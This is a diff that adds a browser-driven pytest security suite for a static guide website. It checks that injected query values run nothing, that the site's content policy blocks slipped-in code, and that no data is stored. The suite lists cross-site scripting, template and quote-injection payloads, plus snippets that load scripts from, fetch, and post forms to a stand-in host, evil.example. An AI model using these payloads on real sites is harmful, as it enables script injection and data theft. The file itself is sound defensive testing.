@@ -1,0 +1,96 @@
+"""Nothing that is slipped into a page or its address runs, and nothing stays on the device."""
+
+from urllib.parse import quote, urlencode
+
+import pytest
+from playwright.sync_api import Browser
+from tests.conftest import OpenReader
+
+HOSTILE = [
+    pytest.param("<img src=x onerror=hacked=1>", id="an element with a handler"),
+    pytest.param('"><script>hacked=1</script>', id="a script behind a closed attribute"),
+    pytest.param("javascript:hacked=1", id="a script as an address"),
+    pytest.param("//evil.example/x", id="another host"),
+    pytest.param("${hacked=1}{{constructor.constructor('hacked=1')()}}", id="a template"),
+    pytest.param("__proto__", id="a name that every object has"),
+    pytest.param("9" * 4000, id="four thousand digits"),
+    pytest.param("2026-02-12T23:01\0\u202e\ufffe", id="signs that are not seen"),
+    pytest.param("T+1' OR '1'='1", id="quotes"),
+]
+READS = {
+    "/calculator/": ["at", "channel", "cycle", "cutoff"],
+    "/check/": ["approved", "due"],
+    "/en/causes/overdue/": ["approved", "due"],
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("url", READS)
+def test_a_hostile_address_does_nothing(open_reader: OpenReader, url: str, hostile: str) -> None:
+    page = open_reader()
+    given = [(name, hostile) for name in READS[url]]
+    for query in (given, [(hostile, "due")], [("__proto__", "1"), *given, *given]):
+        page.goto(f"{url}?{urlencode(query)}#{quote(hostile)}", wait_until="load")
+        page.wait_for_timeout(50)
+        assert (
+            page.evaluate("[window.hacked, {}.hacked, document.querySelector('main img[src=x]')]")
+            == [None] * 3
+        )
+        assert page.locator("h1").count() == 1
+
+
+SLIPPED_IN = {
+    "a script": "document.body.append(Object.assign(document.createElement('script'), {text: 'hacked = 1'}))",
+    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"hacked = 1\">')",
+    "an address": "Object.assign(document.createElement('a'), {href: 'javascript:hacked = 1'}).click()",
+    "a file of another host": "document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
+    "a word home": "fetch('https://evil.example/').catch(() => 0)",
+    "a form to elsewhere": "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"><button id=go></form>'); go.click()",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("slipped", SLIPPED_IN.values(), ids=SLIPPED_IN)
+def test_the_policy_stops_what_was_slipped_in(browser: Browser, origin: str, slipped: str) -> None:
+    context = browser.new_context(base_url=origin)
+    page = context.new_page()
+    page.goto("/404.html")
+    page.evaluate(
+        "stopped = []; addEventListener('securitypolicyviolation', (event) => stopped.push(event.violatedDirective))"
+    )
+    page.evaluate(slipped)
+    page.wait_for_function("stopped.length > 0")
+    assert page.evaluate("window.hacked") is None
+    context.close()
+
+
+@pytest.mark.parametrize(
+    "url", ["/", "/check/?approved=due", "/en/calculator/?at=2026-02-12T23:01"]
+)
+def test_nothing_is_stored_on_the_device(open_reader: OpenReader, url: str) -> None:
+    page = open_reader()
+    page.goto(url, wait_until="load")
+    stored = "Promise.all([localStorage.length, sessionStorage.length, caches.keys(), indexedDB.databases()])"
+    assert page.evaluate(stored) == [0, 0, [], []]
+    assert page.context.cookies() == []
+
+
+def test_a_link_that_leaves_the_guide_shows_and_says_so(open_reader: OpenReader) -> None:
+    page = open_reader()
+    page.goto("/en/about/")
+    outside = page.locator("article a[rel~=external]").first
+    assert "↗" in outside.evaluate("link => getComputedStyle(link, '::after').content")
+    assert "(leaves this site)" in outside.aria_snapshot()
+    assert page.locator("article a[href^=http]:not([rel~=external])").count() == 0
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_words_are_only_sought(open_reader: OpenReader, hostile: str) -> None:
+    page = open_reader()
+    page.goto("/")
+    page.locator("site-search > button").click()
+    page.get_by_role("searchbox").fill(hostile)
+    page.get_by_role("status").filter(has_text="。").or_(
+        page.locator("site-search li").first
+    ).first.wait_for()
+    assert page.evaluate("window.hacked") is None
+    assert page.locator("site-search img").count() == 0
